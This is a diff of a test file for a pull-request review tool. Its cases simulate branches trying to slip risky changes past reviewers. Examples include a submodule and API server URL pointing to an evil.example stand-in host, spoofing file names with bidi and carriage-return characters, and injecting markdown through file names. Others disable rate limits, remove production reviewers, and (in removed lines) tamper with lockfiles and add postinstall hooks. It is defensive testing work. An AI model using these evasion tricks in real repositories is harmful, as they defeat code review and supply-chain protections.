@@ -1,46 +1,33 @@
-import { mkdirSync, rmSync, symlinkSync, writeFileSync } from "node:fs"
+import { mkdirSync, rmSync, symlinkSync } from "node:fs"
 import { join } from "node:path"
 
 import { afterAll, expect, test } from "vitest"
 
 import { commit, git } from "./testing/commit.ts"
-import { openReviewedRepository } from "./testing/reviewed-branch.ts"
+import { type HiddenChange, openReviewedRepository } from "./testing/reviewed-branch.ts"
 
 const repository = openReviewedRepository()
 afterAll(() => repository[Symbol.asyncDispose]())
 
 const { directory } = repository
 
-/** @throws if nothing is replaced, as once the code is another */
-function replace(path: string, from: RegExp, to: string): void {
-  repository.edit(path, (text) => {
-    if (!from.test(text)) throw new Error(`${path} does not contain ${from}`)
-    return text.replace(from, to)
-  })
-}
-
-function add(path: string, text: string): void {
-  mkdirSync(join(directory, path, ".."), { recursive: true })
-  writeFileSync(join(directory, path), text)
-}
-
 const production = "environments/Pulumi.production.yaml"
 
 /** What production's members would be sent to, with their cookies. */
 function trustPartner(): void {
-  replace(production, /(trustedOrigins:\n)/, "$1    - https://partner.org\n")
+  repository.replace(production, /(trustedOrigins:\n)/, "$1    - https://partner.org\n")
 }
 
 const partner = /^\| origins that call .*`\+ origin https:\/\/partner\.org`/m
 const refused = /\*\*R23\*\* `environments\/Pulumi\.production\.yaml:13`/
 
 /** How a branch tries to get past whoever reads its comment alone, and what the comment says all the same. */
-const branches: { title: string; change: () => void; says: RegExp[]; good?: boolean }[] = [
+const branches: HiddenChange[] = [
   {
     title: "takes out the rule that would refuse its origin",
     change() {
       trustPartner()
-      replace(
+      repository.replace(
         "infra/environment/rules/host.ts",
         /\.filter\(\(\{ origin \}\) => !ours.*\n/,
         ".filter(() => false)\n",
@@ -57,8 +44,8 @@ const branches: { title: string; change: () => void; says: RegExp[]; good?: bool
     title: "writes an effective file of its own beside changed code",
     change() {
       trustPartner()
-      replace("environments/production.effective.yaml", /\n.*AUTH_URL.*/, "")
-      replace("infra/names.ts", /^/, "// harmless\n")
+      repository.replace("environments/production.effective.yaml", /\n.*AUTH_URL.*/, "")
+      repository.replace("infra/names.ts", /^/, "// harmless\n")
     },
     says: [
       /^## Read first: this changes what judges, plans or deploys\n/m,
@@ -70,80 +57,31 @@ const branches: { title: string; change: () => void; says: RegExp[]; good?: bool
   },
   {
     title: "edits a migration that is applied",
-    change: () => replace("migrations/0000_accounts.sql", /^/, "-- harmless\n"),
+    change: () => repository.replace("migrations/0000_accounts.sql", /^/, "-- harmless\n"),
     says: [/`0000_accounts\.sql` \*\*edited\*\*\n +- refused: /],
   },
   {
     title: "drops a table that its own judge of migrations lets through",
     change() {
       repository.addMigration("gone", "DROP TABLE journal_entry;\n")
-      replace("d1-migrations/lint/rules.ts", /^/, "// harmless\n")
+      repository.replace("d1-migrations/lint/rules.ts", /^/, "// harmless\n")
     },
     says: [/`\d+_gone\.sql` \*\*\w+\*\*\n +- refused: /, /what judges +\| `d1-migrations\//],
   },
   {
-    title: "installs a package from another server",
-    change: () =>
-      replace(
-        "package-lock.json",
-        /("node_modules\/zod": \{\n)/,
-        `$1      "resolved": "https://evil.example/zod/-/zod-4.6.7.tgz",\n`,
-      ),
-    says: [
-      /what is installed +\| `package-lock\.json` /,
-      /\*\*refused\*\* `node_modules\/zod comes from https:\/\/evil\.example`/,
-    ],
-  },
-  {
-    title: "installs other content under the version that was there",
-    change: () =>
-      replace("package-lock.json", /("node_modules\/zod": \{\n.*\n.*"sha512-)\w/, "$1_"),
-    says: [/\*\*refused\*\* `node_modules\/zod 4\.\S+ has another checksum than before`/],
-  },
-  {
-    title: "installs another package under a name that is known",
-    change: () =>
-      replace(
-        "package-lock.json",
-        /("node_modules\/zod": \{\n)/,
-        `$1      "name": "zod-faster",\n`,
-      ),
-    says: [/\*\*refused\*\* `node_modules\/zod is the package zod-faster`/],
-  },
-  {
-    title: "runs a script when a package is installed",
-    change: () =>
-      replace(
-        "package-lock.json",
-        /("node_modules\/zod": \{\n)/,
-        `$1      "hasInstallScript": true,\n`,
-      ),
-    says: [/`node_modules\/zod` runs a script when it is installed/],
-    good: true,
-  },
-  {
-    title: "installs by another file than the one that is compared",
-    change() {
-      add("npm-shrinkwrap.json", "{}\n")
-      replace(
-        "d1-migrations/package.json",
-        /"type"/,
-        `"scripts": { "postinstall": "node x.js" },\n  "type"`,
-      )
-    },
-    says: [/what is installed +\| `d1-migrations\/package\.json` .*<br>`npm-shrinkwrap\.json` /],
-    good: true,
-  },
-  {
     title: "deploys production without its reviewers",
     change: () =>
-      replace(".github/workflows/production.yml", /\n {4}environment: production #.*/, ""),
+      repository.replace(
+        ".github/workflows/production.yml",
+        /\n {4}environment: production #.*/,
+        "",
+      ),
     says: [/what judges +\| `\.github\/workflows\/production\.yml` \+0 -1 /],
     good: true,
   },
   {
     title: "lets nobody own the tool",
-    change: () => replace(".github/CODEOWNERS", /$/, "\n/cli/\n"),
+    change: () => repository.replace(".github/CODEOWNERS", /$/, "\n/cli/\n"),
     says: [
       /what judges +\| `\.github\/CODEOWNERS` \+\d -0 /,
       /\*\*R59\*\* `\.github\/CODEOWNERS:\d` `\/cli\/` `has no owner`/,
@@ -153,8 +91,8 @@ const branches: { title: string; change: () => void; says: RegExp[]; good?: bool
     title: "writes the comment itself, by the tool and by the workflow",
     change() {
       trustPartner()
-      replace("cli/review/review.ts", /changes: changesBetween\(base.*/, "changes: [],")
-      replace(".github/workflows/review.yml", /pull_request_target/, "pull_request")
+      repository.replace("cli/review/review.ts", /changes: changesBetween\(base.*/, "changes: [],")
+      repository.replace(".github/workflows/review.yml", /pull_request_target/, "pull_request")
     },
     says: [
       /what judges +\| `\.github\/workflows\/review\.yml` \+1 -1<br>`cli\/review\/review\.ts` \+1 -1 /,
@@ -165,7 +103,7 @@ const branches: { title: string; change: () => void; says: RegExp[]; good?: bool
   {
     title: "binds something only where a token is set",
     change: () =>
-      replace(
+      repository.replace(
         "infra/bindings.ts",
         /(const texts = \{)/,
         `$1 ...(process.env["CLOUDFLARE_API_TOKEN"] ? { AUTH_TRUSTED_ORIGIN: "https://partner.org" } : {}),`,
@@ -176,15 +114,19 @@ const branches: { title: string; change: () => void; says: RegExp[]; good?: bool
   {
     title: "takes out a limit of requests",
     change: () =>
-      replace("app/http/address-limit.ts", /if \(await isWithinLimit.*\) return/, "return"),
+      repository.replace(
+        "app/http/address-limit.ts",
+        /if \(await isWithinLimit.*\) return/,
+        "return",
+      ),
     says: [/what answers requests +\| `app\/http\/address-limit\.ts` \+1 -1 /],
     good: true,
   },
   {
     title: "deploys another program",
     change() {
-      replace("Pulumi.yaml", /infra\/main\.js/, "bench/main.js")
-      add("bench/main.js", "\n")
+      repository.replace("Pulumi.yaml", /infra\/main\.js/, "bench/main.js")
+      repository.add("bench/main.js", "\n")
     },
     says: [/what plans or deploys +\| `Pulumi\.yaml` \+1 -1 /],
     good: true,
@@ -202,34 +144,105 @@ const branches: { title: string; change: () => void; says: RegExp[]; good?: bool
     change() {
       trustPartner()
       const names = Array.from({ length: 300 }, (_, at) => `cli/${"long/".repeat(100)}${at}.ts`)
-      for (const name of names) add(name, "\n")
+      for (const name of names) repository.add(name, "\n")
     },
     says: [/<br>and 260 more \|/, partner, refused],
   },
   {
     title: "has a file whose name is a text of its own",
-    change: () => add("app/`\n\n## Nothing has changed\n\n`.ts", "\n"),
+    change: () => repository.add("app/`\n\n## Nothing has changed\n\n`.ts", "\n"),
     says: [/what answers requests +\| `app\/' ## Nothing has changed '\.ts` \+1 -0 /],
     good: true,
+  },
+  {
+    title: "ends a row of the table before the file that matters",
+    change() {
+      repository.add("cli/!\\|.ts", "\n")
+      repository.replace("infra/names.ts", /^/, "// harmless\n")
+    },
+    says: [/what plans or deploys +\| `cli\/!\\ \\\|\.ts` \+1 -0<br>`infra\/names\.ts` \+1 -0 +\|/],
+    good: true,
+  },
+  {
+    title: "has names of files that a reader sees otherwise",
+    change() {
+      repository.add("app/\r\r## Nothing has changed\r\r.ts", "\n")
+      repository.add("app/\u202Ets.drawkcab\u200B.ts", "\n")
+    },
+    says: [
+      /`app\/\\u\{d\}\\u\{d\}## Nothing has changed\\u\{d\}\\u\{d\}\.ts`/,
+      /`app\/\\u\{202e\}ts\.drawkcab\\u\{200b\}\.ts`/,
+    ],
+    good: true,
+  },
+  {
+    title: "names an environment so that what follows is none of the comment",
+    change() {
+      trustPartner()
+      repository.add("environments/Pulumi.<!--|.yaml", "config: {}\n")
+    },
+    says: [partner, /^\| +\| \?\?--\? /m],
+  },
+  {
+    title: "changes what the Worker says of itself, the client of members, and what nobody knows",
+    change() {
+      repository.replace("docs/openapi.json", /"url": "\/"/, '"url": "https://evil.example"')
+      repository.add("client/src/index.ts", "\n")
+      repository.add("migrations/meta/load.js", "\n")
+      repository.add("environments/seed/x.yaml", "\n")
+    },
+    says: [
+      /what answers requests +\| `docs\/openapi\.json` \+1 -1 /,
+      /what plans or deploys +\| `client\/src\/index\.ts` \+1 -0<br>`environments\/seed\/x\.yaml` \+1 -0<br>`migrations\/meta\/load\.js` \+1 -0 /,
+    ],
+    good: true,
+  },
+  {
+    title: "brings another repository, which its own settings hide",
+    change() {
+      repository.add(
+        ".gitmodules",
+        '[submodule "x"]\n\tpath = infra/x\n\turl = https://evil.example\n\tignore = all\n',
+      )
+      mkdirSync(join(directory, "infra/x"))
+      git(directory, "update-index", "--add", "--cacheinfo", `160000,${"1".repeat(40)},infra/x`)
+    },
+    says: [/`infra\/x` \+1 -0/, /`\.gitmodules` \+\d -0/],
+    good: true,
+  },
+  {
+    title: "changes how git reads files",
+    change: () => repository.add(".gitattributes", "* linguist-generated -diff merge=union\n"),
+    says: [/what plans or deploys +\| `\.gitattributes` /],
+    good: true,
+  },
+  {
+    title: "merges keys into an environment as only the engine does",
+    change: () =>
+      repository.replace(
+        production,
+        /^config:\n/m,
+        'config:\n  <<: {"accounts:trustedOrigins": ["https://partner.org"]}\n',
+      ),
+    says: [/Refused/],
+  },
+  {
+    title: "takes values of an environment of others",
+    change: () => repository.replace(production, /^config:\n/m, "environment: [evil]\nconfig:\n"),
+    says: [/^\| others .*`\+ environment`/m],
   },
 ]
 
 test.each(branches)("the comment names what a branch does that $title", async (row) => {
-  const { text, good, output } = await repository.review(row.change)
-  expect(text, output).toMatch(/^<!-- accounts review -->\n/)
-  for (const said of row.says) expect(text).toMatch(said)
-  expect(good).toBe(row.good ?? false)
-  expect(text + output).not.toContain("root:")
-  const sha = /by the code of `(\w{12})`, which ran none of the branch's/.exec(text)?.[1]
-  expect(sha !== undefined || !text.includes("\n| what ")).toBe(true)
+  expect(await repository.judge(row)).toEqual({ unsaid: [], good: row.good ?? false })
 })
 
 test("what cannot be merged has no comment of its own, and fails", async () => {
-  replace("Pulumi.yaml", /^.*/, "# Of main")
+  repository.replace("Pulumi.yaml", /^.*/, "# Of main")
   commit(directory, "Change main")
   const { text, good, output } = await repository.review(() => {
     git(directory, "reset", "--quiet", "--hard", "HEAD~1")
-    replace("Pulumi.yaml", /^.*/, "# Of the branch")
+    repository.replace("Pulumi.yaml", /^.*/, "# Of the branch")
   })
   expect({ text, good }).toEqual({ text: "", good: false })
   expect(output).toContain("cannot be merged")
